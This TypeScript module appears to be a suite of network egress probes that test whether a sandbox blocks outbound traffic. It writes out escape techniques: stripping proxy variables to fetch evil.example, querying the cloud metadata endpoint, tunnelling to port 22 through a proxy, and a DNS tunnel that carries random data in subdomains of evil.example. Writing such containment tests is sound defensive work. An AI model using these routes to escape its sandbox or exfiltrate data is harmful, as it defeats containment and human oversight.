import { spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import dgram from 'node:dgram'
import { Resolver } from 'node:dns/promises'
import { once } from 'node:events'
import http from 'node:http'
import net, { type NetConnectOpts, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { denialIn } from './denial.ts'
import type { Outcome, Probe } from './main.ts'

/** 203.0.113.0/24 and 2001:db8::/32 are addresses for documentation (RFC 5737, RFC 3849): nobody's. */
export const NETWORK_PROBES: Readonly<Record<string, Probe>> = {
  'no proxy, on the list': () => fetchWithoutProxy('https://httpbin.org/get'),
  'no proxy, off the list': () => fetchWithoutProxy('https://evil.example/'),
  'raw socket': () => speak({ host: '203.0.113.7', port: 443 }, 'let me out\r\n\r\n'),
  'IPv6 literal': () => speak({ host: '2001:db8::7', port: 80 }, 'GET / HTTP/1.1\r\nHost: [2001:db8::7]\r\n\r\n'),
  'cloud metadata': async () => denialIn(await fetch('http://169.254.169.254/latest/meta-data/')),
  'port 22': () => speak({ host: '203.0.113.7', port: 22 }, ''),
  'port 8443': () => speak({ host: '203.0.113.7', port: 8443 }, ''),
  'port 22 by proxy': () => speakByProxy('httpbin.org:22', 'SSH-2.0-probe\r\n'),
  'UDP port 123': () => sendDatagram(123),
  'UDP port 443': () => sendDatagram(443),
  'DNS tunnel': tunnel,
}

/** In a process whose environment names no proxy: it looks the name up and connects by itself. */
async function fetchWithoutProxy(url: string): Promise<Outcome> {
  const program = `const r = await fetch('${url}'); console.log(JSON.stringify([r.status, await r.text()]))`
  const env = Object.fromEntries(Object.entries(process.env).filter(([name]) => !/proxy/i.test(name)))
  const child = spawnSync(process.execPath, ['--input-type=module', '-e', program], { env, encoding: 'utf8' })
  if (child.status !== 0) return { failure: child.stderr }
  const [status, text] = JSON.parse(child.stdout) as [number, string]
  return denialIn(new Response(text, { status }))
}

async function speak(target: NetConnectOpts, message: string): Promise<Outcome> {
  const socket = net.connect(target)
  await once(socket, 'connect')
  return converse(socket, message)
}

/** Gets a tunnel to `authority` from the proxy and speaks in it. */
async function speakByProxy(authority: string, message: string): Promise<Outcome> {
  const { hostname, port } = new URL(process.env['HTTPS_PROXY'] ?? '')
  const request = http.request({ hostname, port, method: 'CONNECT', path: authority, headers: { host: authority } })
  const [, socket] = (await once(request.end(), 'connect')) as [unknown, Socket]
  return converse(socket, message)
}

/** Says something and listens until the other side closes. */
async function converse(socket: Socket, message: string): Promise<Outcome> {
  socket.end(message)
  const chunks: Buffer[] = []
  for await (const chunk of socket) chunks.push(chunk as Buffer)
  return { answer: Buffer.concat(chunks).toString('latin1').slice(0, 600) }
}

/** Sends a datagram and waits for an answer, or for word that nobody is there. */
async function sendDatagram(port: number): Promise<Outcome> {
  const socket = dgram.createSocket('udp4')
  try {
    socket.connect(port, '203.0.113.7')
    await once(socket, 'connect')
    const answered = once(socket, 'message').then(() => 'answered')
    socket.send(Buffer.alloc(48, 0x1b))
    return { answer: await Promise.race([answered, wait(300, 'none')]) }
  } finally {
    socket.close()
  }
}

/** Carries data out in names, half of them through a resolver on the internet. Counts what comes back, by address. */
async function tunnel(): Promise<Outcome> {
  const own = new Resolver()
  const far = new Resolver()
  far.setServers(['8.8.8.8'])
  const lookups = Array.from({ length: 50 }, async (_, index) => {
    const resolver = index % 2 === 0 ? own : far
    return (await resolver.resolve4(`${randomBytes(24).toString('hex')}.evil.example`)).join(' ')
  })
  const answers = Map.groupBy(await Promise.all(lookups), (address) => address)
  return Object.fromEntries([...answers].map(([address, all]) => [address, String(all.length)]))
}
